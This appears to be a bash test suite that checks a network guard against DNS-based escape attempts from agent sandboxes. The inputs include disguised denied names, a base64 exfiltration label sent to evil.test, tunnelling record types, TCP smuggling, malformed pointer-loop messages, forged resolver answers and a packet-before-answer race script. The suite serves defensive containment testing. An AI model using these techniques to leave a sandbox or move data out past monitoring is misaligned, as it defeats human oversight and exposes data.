# Escape attempts, class "DNS": a sandbox using DNS as a way out or as a
# way to widen what it may reach — denied names in disguise, other
# resolvers and ports, TCP framing tricks, tunnelling through labels and
# record types, several questions, EDNS side channels, oversized and
# malformed (pointer loop) messages, spoofed answers, and the race between
# an answer and the first SYN. The plain cases (a denied name, the rogue
# resolver, TCP to the guard) are in tests/integration/engine_flows.sh and
# the DNS guard's own suites; these are the hostile variants. Evidence: the
# answer the sandbox got, dnsmasq's query log (what reached the resolver),
# the upstream capture, and the verdict log.
. "$PC_TOP/tests/escape/escape_lib.bash"

esc_init dns "DNS"
# 20 names with an address each (the race), one name to spoof.
extra=""
for i in $(seq 1 20); do extra="$extra --host-record=r$i.race.test,198.51.100.$((100 + i))"; done
LAB_DNS_EXTRA=$extra
ESC_ALLOW1='  - host: "*.race.test"
    ports: [443]
    proto: udp'
esc_up 2

q() { esc_craft 1 dns --server $LAB_RESOLVER4 --edns "$@"; }
resolver_saw() { grep -ciE -- "query\[[A-Z0-9]+\] $1 " "$LAB_DIR/dnsmasq.log" 2>/dev/null | tr -d ' '; }
rogue_saw() { grep -c 'query\[' "$LAB_DIR/dnsmasq-rogue.log" 2>/dev/null | tr -d ' '; }
dnsrec() { esc_reason "\"event.action\":\"dns-query\".*$1"; }
malformed() { guard_status_field 's["dnsguard"]["queries_malformed"]'; }

t_match "baseline: an allowed name resolves through the guard" "^NOERROR .*$LAB_API4" \
	"$(q --name api.github.test)"

# ---- denied names in disguise -------------------------------------------------------------
for name in PaStE.EvIl.TeSt api.github.test.evil.test x.api.github.test xapi.github.test \
	aGVsbG8td29ybGQtZXhmaWx0cmF0aW9u.t.evil.test; do
	esc_begin "a denied name in disguise: $name"
	out=$(q --name "$name")
	t_match "$name: REFUSED by the guard" "^REFUSED portcullis: name not on the allow list" "$out"
	t_eq "$name: never reached the resolver" 0 "$(resolver_saw "$(printf '%s' "$name" | sed 's/\./\\./g')")"
	r=$(dnsrec "\"dns.question.name\":\"$(printf '%s' "$name" | tr 'A-Z' 'a-z')\"")
	t_eq "$name: logged with its reason" "name not on the allow list" "$r"
	esc_end "REFUSED (EDE: $(printf '%s' "$out" | cut -d' ' -f2- | cut -c1-60))" \
		"dnsmasq log: no query; log: \"$r\""
done

esc_begin "a dot inside a label (\\\"api.github.test\\\" as one label)"
before=$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")
out=$(q --variant label-dot)
t_match "REFUSED" "^REFUSED" "$out"
t_eq "never reached the resolver" "$before" "$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")"
r=$(esc_reason '"event.action":"dns-query".*"event.outcome":"failure"')
t_eq "logged with its reason" "name is not a host name" "$r"
esc_end "REFUSED" "log: \"$r\""

# ---- other resolvers, other ports -------------------------------------------------------
for how in "udp $LAB_ROGUE_RESOLVER4" "tcp $LAB_ROGUE_RESOLVER4" "udp 192.0.2.53" "udp $LAB_UPLINK_UP4"; do
	set -- $how
	esc_begin "an allowed name asked of another resolver ($1 $2:53)"
	out=$(esc_craft 1 dns --server "$2" --edns --name api.github.test $([ "$1" = tcp ] && echo --tcp))
	if [ "$1" = tcp ]; then
		t_match "$2 over TCP: reset" "^reset" "$out"
	else
		t_match "$2: REFUSED by the guard" "^REFUSED portcullis: not to a configured resolver" "$out"
	fi
	esc_expect_nothing "$2" "dst host $2 and port 53"
	t_eq "the rogue resolver saw nothing" 0 "$(rogue_saw)"
	r=$(dnsrec "\"destination.ip\":\"$2\"")
	[ "$1" = tcp ] && r=$(esc_reason "\"destination.ip\":\"$2\",\"destination.port\":53,")
	t_match "logged with its reason" "not to a configured resolver|resolver that is not the guard" "$r"
	esc_end "$([ "$1" = tcp ] && echo RST || echo REFUSED)" "upstream capture: 0 packets to $2; log: \"$r\""
done

for port in 5353 853 443; do
	esc_begin "the guard's own resolver on another port ($LAB_RESOLVER4:$port, DNS/DoT/DoH)"
	if [ $port = 5353 ]; then
		out=$(q --name paste.evil.test --port $port --timeout 1)
	else
		out=$(q --name paste.evil.test --port $port --tcp --timeout 1)
	fi
	t_nomatch "no answer" "^NOERROR" "$out"
	esc_expect_nothing "port $port" "dst host $LAB_RESOLVER4 and port $port"
	r=$(esc_reason "\"destination.ip\":\"$LAB_RESOLVER4\",\"destination.port\":$port,")
	t_match "logged as a refused flow" "$ESC_REFUSED_RE" "$r"
	esc_end "refused ($out)" "upstream capture: 0 packets to port $port; log: \"$r\""
done

# ---- TCP framing ------------------------------------------------------------------------
t_match "baseline: DNS over TCP to the guard's resolver works" "^NOERROR" "$(q --tcp --name api.github.test)"
esc_begin "DNS over TCP: two messages in one segment (the second a denied name smuggled behind)"
out=$(q --tcp --double --name paste.evil.test)
t_match "reset" "^reset|^closed" "$out"
t_eq "the resolver never saw the name" 0 "$(resolver_saw 'paste\.evil\.test')"
# the record of the refusal, by its reason: a segment of the same
# connection arriving after the reset has a record of its own ("no
# stream") and may come last
r=$(esc_reason '"event.reason":"[^"]*(exactly one whole message|name not on the allow list)')
t_match "logged with its reason" "exactly one whole message|name not on the allow list" "$r"
esc_end "RST" "dnsmasq log: no query; log: \"$r\""

t_match "baseline: an allowed query split over two segments is judged whole and answered" \
	"^NOERROR" "$(q --tcp --split --name api.github.test)"
esc_begin "DNS over TCP: length prefix and message in separate segments (a denied name)"
out=$(q --tcp --split --name split.paste.evil.test)
t_match "reset" "^reset|^closed" "$out"
t_eq "the resolver never saw the name" 0 "$(resolver_saw 'split\.paste\.evil\.test')"
# the record of the judged message, by its name: a segment of the same
# connection arriving after the reset (the client's FIN, a resend) has a
# record of its own ("no stream") and may come last
r=$(dnsrec '"dns.question.name":"split.paste.evil.test"')
t_match "logged with its reason" "name not on the allow list" "$r"
esc_end "RST" "dnsmasq log: no query; log: \"$r\""

# ---- tunnelling through record types and labels -------------------------------------------
for qt in TXT NULL ANY MX 65280; do
	esc_begin "an allowed name with a record type that can carry data ($qt api.github.test)"
	out=$(q --name api.github.test --qtype $qt)
	t_match "$qt: REFUSED" "^REFUSED portcullis: query type not permitted" "$out"
	case $qt in 65280) tre=TYPE65280 ;; NULL) tre='(NULL|TYPE10)' ;; ANY) tre='(ANY|TYPE255)' ;; *) tre=$qt ;; esac
	r=$(dnsrec "\"dns.question.type\":\"$tre\"")
	t_eq "$qt: logged with its reason" "query type not permitted" "$r"
	esc_end "REFUSED" "log: \"$r\""
done
t_eq "none of those types reached the resolver" 0 \
	"$(grep -cE 'query\[(TXT|NULL|ANY|MX|TYPE65280)\]' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"

esc_begin "AXFR of the allowed zone over TCP"
out=$(q --tcp --name github.test --qtype AXFR)
t_match "refused" "^REFUSED|^reset|^closed" "$out"
t_eq "never reached the resolver" 0 "$(grep -c 'query\[AXFR\]' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
esc_end "refused ($out)" "dnsmasq log: no AXFR"

# ---- several questions, sections, header tricks --------------------------------------------
for v in two-questions zero-questions answer-in-query class-chaos opcode-notify trailing; do
	esc_begin "a query shaped to slip past: $v (name api.github.test)"
	m0=$(malformed)
	before=$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")
	out=$(q --variant $v --timeout 1)
	t_nomatch "$v: no NOERROR answer" "^NOERROR" "$out"
	t_eq "$v: never reached the resolver" "$before" "$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")"
	case $out in
	REFUSED*)
		r=$(esc_reason '"event.action":"dns-query"')
		ev="log: \"$r\"" ;;
	*)
		t_lt "$v: dropped as malformed (counted)" "$m0" "$(malformed)"
		ev="dropped as malformed: queries_malformed +$(($(malformed) - m0))" ;;
	esac
	esc_end "${out:-no answer}" "dnsmasq log: no query; $ev"
done

esc_begin "a DNS *response* sent by the sandbox (QR set) to the resolver"
before=$(grep -c 'query\[\|reply' "$LAB_DIR/dnsmasq.log")
m0=$(malformed)
out=$(q --variant response --timeout 1)
t_eq "no answer" "timeout" "$out"
t_lt "dropped and counted" "$m0" "$(malformed)"
esc_expect_nothing "response" "dst host $LAB_RESOLVER4 and udp port 53 and src host $SB1_4"
esc_end "dropped" "queries_malformed +$(($(malformed) - m0)); upstream capture: 0 packets"

# ---- EDNS --------------------------------------------------------------------------------
for v in ecs padding-data edns1 two-opt opt-owner unknown-option oversized; do
	esc_begin "EDNS trick: $v (allowed name)"
	before=$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")
	out=$(q --variant $v --timeout 1)
	t_match "$v: REFUSED with the reason" "^REFUSED portcullis: " "$out"
	t_eq "$v: never reached the resolver" "$before" "$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")"
	r=$(esc_reason '"event.action":"dns-query","event.outcome":"failure"')
	esc_end "REFUSED" "log: \"$r\""
done

esc_begin "an oversized query over TCP (600 bytes of padding)"
out=$(q --tcp --variant oversized)
t_match "refused" "^REFUSED|^reset|^closed" "$out"
r=$(esc_reason '"event.action":"dns-query","event.outcome":"failure"')
t_match "logged" "oversized|padding" "$r"
esc_end "$out" "log: \"$r\""

# ---- malformed: compression pointers ------------------------------------------------------
for v in pointer-loop pointer-forward; do
	esc_begin "a question name that is a compression pointer ($v)"
	m0=$(malformed)
	before=$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")
	out=$(q --variant $v --timeout 1)
	out2=$(q --variant $v --tcp --timeout 1)
	t_eq "$v: no answer over UDP (dropped)" "timeout" "$out"
	t_match "$v: over TCP, reset or dropped" "^reset|^closed|^timeout" "$out2"
	t_lt "$v: counted as malformed" "$m0" "$(malformed)"
	t_eq "$v: never reached the resolver" "$before" "$(grep -c 'query\[' "$LAB_DIR/dnsmasq.log")"
	t_ok "$v: the engine still serves" guard_cli status
	esc_end "dropped (UDP), $out2 (TCP)" "queries_malformed +$(($(malformed) - m0)); dnsmasq log: nothing"
done

# ---- spoofed answers ------------------------------------------------------------------------
UP_GW_MAC=$(lab_gw cat /sys/class/net/up0/address)
forge() { lab_upstream python3 "$ESC_CRAFT" --gw-mac "$UP_GW_MAC" dns-answer "$@"; }
listen_udp() { # sandbox port -> prints what arrives within 2 s
	lab_sb "$1" python3 -c 'import socket,sys
s = socket.socket(); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("", int(sys.argv[1]))); s.settimeout(2)
try: print("got", len(s.recvfrom(4096)[0]))
except socket.timeout: print("nothing")' "$2"
}
answers_dropped() { guard_status_field 's["dnsguard"]["answers_dropped"]'; }

esc_begin "an unsolicited answer forged upstream (from 198.51.100.53:53: api.github.test = paste's address)"
d0=$(answers_dropped) f0=$(esc_counter inet forward '^\s*counter')
listen_udp 1 40053 >"$LAB_DIR/l1.out" &
bg=$!
sleep 0.3
forge --to $SB1_4 --dport 40053 --id 4242 --name api.github.test --addr $LAB_PASTE4 --count 2 >/dev/null
wait $bg
t_eq "the sandbox received nothing" "nothing" "$(cat "$LAB_DIR/l1.out")"
f1=$(esc_counter inet forward '^\s*counter')
t_lt "dropped before the guard (no conntrack entry: the forward chain's last rule)" "$f0" "$f1"
t_eq "... so the DNS guard never saw it" "$d0" "$(answers_dropped)"
out=$(lab_sb 1 curl -s -o /dev/null -w '%{http_code}' --max-time 3 -k --resolve "api.github.test:443:$LAB_PASTE4" https://api.github.test/ 2>&1)
t_eq "paste's address was not learned: a connection there is refused" 000 "$out"
esc_end "dropped before any verdict" "inet forward final drop counter +$((f1 - f0)); a SYN to $LAB_PASTE4 is still refused"

esc_begin "a forged answer with the wrong id for an outstanding query (real answer held back)"
# hold back the real resolver's answers to this port (upstream side, test only)
lab_upstream nft -f - <<EOF
table inet escdns {
	chain out {
		type filter hook output priority 0; policy accept;
		udp sport 53 udp dport { 40054, 40055 } drop
	}
}
EOF
d0=$(answers_dropped)
esc_craft 1 dns --server $LAB_RESOLVER4 --name api.github.test --sport 40054 --id 1000 --timeout 2 \
	>"$LAB_DIR/q2.out" &
bg=$!
sleep 0.5
forge --to $SB1_4 --dport 40054 --id 1001 --name api.github.test --addr $LAB_PASTE4 --count 2 >/dev/null
wait $bg
t_eq "the sandbox got no answer" "timeout" "$(cat "$LAB_DIR/q2.out")"
t_lt "the guard dropped it (answers_dropped)" "$d0" "$(answers_dropped)"
out=$(lab_sb 1 curl -s -o /dev/null -w '%{http_code}' --max-time 3 -k --resolve "api.github.test:443:$LAB_PASTE4" https://api.github.test/ 2>&1)
t_eq "paste's address was not learned" 000 "$out"
esc_end "dropped" "answers_dropped +$(($(answers_dropped) - d0)); no binding learned"

esc_begin "a sandbox spoofing the resolver's address toward the other sandbox"
c0=$(esc_counter bridge ipv4 '@nh,96,32 != @src4')
listen_udp 2 40056 >"$LAB_DIR/l2.out" &
bg=$!
sleep 0.3
esc_craft 1 --src $LAB_RESOLVER4 udp --dst $SB2_4 --dport 40056 --sport 53 --data fake --count 3 >/dev/null
wait $bg
t_eq "sandbox 2 received nothing" "nothing" "$(cat "$LAB_DIR/l2.out")"
c1=$(esc_counter bridge ipv4 '@nh,96,32 != @src4')
t_lt "dropped at layer 2 by the anti-spoofing rule (no verdict by design)" "$c0" "$c1"
esc_end "dropped before any verdict" "bridge ipv4 rule 'ip saddr != @src4' counter +$((c1 - c0))"

esc_begin "a forged answer that matches the query the agent announced (an accomplice who can spoof the resolver)"
esc_craft 1 dns --server $LAB_RESOLVER4 --name cdn-good.test --sport 40055 --id 2000 --timeout 2 \
	>"$LAB_DIR/q3.out" &
bg=$!
sleep 0.5
forge --to $SB1_4 --dport 40055 --id 2000 --name cdn-good.test --addr $LAB_PASTE4 >/dev/null
wait $bg
out=$(cat "$LAB_DIR/q3.out")
lab_upstream nft delete table inet escdns
# With the forged address learned for cdn-good.test, TLS to it must still
# name cdn-good.test: the SNI check holds, the server is whoever answers.
code=$(lab_sb 1 curl -s -o /dev/null -w '%{http_code}' --max-time 3 --cacert "$LAB_CA" \
	--resolve "cdn-good.test:443:$LAB_PASTE4" https://cdn-good.test/ 2>&1)
t_match "the answer matched an outstanding query: accepted (the guard cannot tell it from the resolver's)" \
	"^NOERROR .*$LAB_PASTE4" "$out"
t_eq "TLS to the forged address with cdn-good.test's name fails: the server there cannot prove that name" \
	000 "$code"
t_eq "paste.evil.test's server saw no request" 0 "$(grep -c "^$LAB_PASTE4 " "$LAB_DIR/nginx-access.log" 2>/dev/null | tr -d ' ')"
esc_end "answer accepted; only a server that can present the allowed name's certificate to the client is reachable" \
	"the resolver path must be trusted (docs/security.md: spoofed answers); nginx log: no request at $LAB_PASTE4" limit

# ---- the race between an answer and the first packet ---------------------------------------
esc_begin "the first packet sent right behind the query, before the answer (20 names, UDP 443 allowed)"
lab_sb 1 python3 - "$LAB_RESOLVER4" <<'EOF' >"$LAB_DIR/race.out" 2>&1
import random, socket, struct, sys
res = sys.argv[1]
def q(name, ident):
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + qn + struct.pack("!HH", 1, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(2)
for i in range(1, 21):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.sendto(q("r%d.race.test" % i, i), (res, 53))
    u.sendto(b"race-%d" % i, ("198.51.100.%d" % (100 + i), 443))  # no waiting for the answer
    try:
        d.recvfrom(512)
    except socket.timeout:
        pass
    u.sendto(b"after-%d" % i, ("198.51.100.%d" % (100 + i), 443))
print("done")
EOF
esc_settle
upips=$(esc_upstream_show "udp and dst net 198.51.100.96/27 and dst port 443" |
	grep -oE '> 198\.51\.100\.[0-9]+' | cut -c3- | sort -u | tr '\n' ' ')
inv=$(guard_records | python3 -c 'import json, sys
learned = {}
bad = []
ok = set()
refused = 0
for line in sys.stdin:
    r = json.loads(line)
    if "event.sequence" not in r or r.get("portcullis.sandbox") != "agent-1":
        continue
    r["seq"] = r["event.sequence"]
    a = r.get("event.action")
    if a in ("dns-learn", "dns-query"):  # a query record carries the addresses of its answer
        for ip in r.get("dns.resolved_ip", []):
            learned.setdefault(ip, r["seq"])
    elif a == "connect" and str(r.get("destination.ip", "")).startswith("198.51.100.1") and r.get("destination.port") == 443:
        if r.get("event.outcome") == "success":
            ok.add(r["destination.ip"])
            if r["destination.ip"] not in learned:
                bad.append(r["seq"])
        else:
            refused += 1
up = set(sys.argv[1].split())
print("allowed=%d refused=%d unlearned_allowed=%s unjudged_upstream=%s" % (
    len(ok), refused, bad, sorted(up - ok)))' "$upips")
t_match "every allowed first packet follows its address's dns-learn record in the log" \
	"unlearned_allowed=\[\]" "$inv"
t_match "every address that received a packet upstream had an allowed record" \
	"unjudged_upstream=\[\]" "$inv"
t_match "the packets after the answers were allowed (the test exercised both sides)" "allowed=[1-9]" "$inv"
esc_end "no packet before its answer passes unlearned" "log invariant: $inv; upstream capture: $(echo $upips | wc -w) addresses, each with its allowed record"

esc_begin "an address another sandbox learned (cdn-good.test resolved by sandbox 1, used by sandbox 2)"
lab_sb 1 curl -sS -o /dev/null --max-time 4 --cacert "$LAB_CA" https://cdn-good.test/
t_eq "sandbox 2 is refused at that address" 7 \
	"$(lab_sb 2 curl -s -o /dev/null --max-time 3 -k https://$LAB_CDN4/ && echo 0 || echo $?)"
r=$(esc_reason "\"portcullis.sandbox\":\"agent-2\".*\"destination.ip\":\"$LAB_CDN4\"")
t_match "logged with its reason" "$ESC_REFUSED_RE" "$r"
esc_end "RST (curl exit 7)" "learning is per sandbox; log: \"$r\""

t_match "after all this, allowed names still resolve and connect" "^api.github.test ok" \
	"$(lab_sb 1 curl -sS --max-time 4 --cacert "$LAB_CA" https://api.github.test/)"
t_ok "the verdict log verifies" guard_cli log verify
t_done
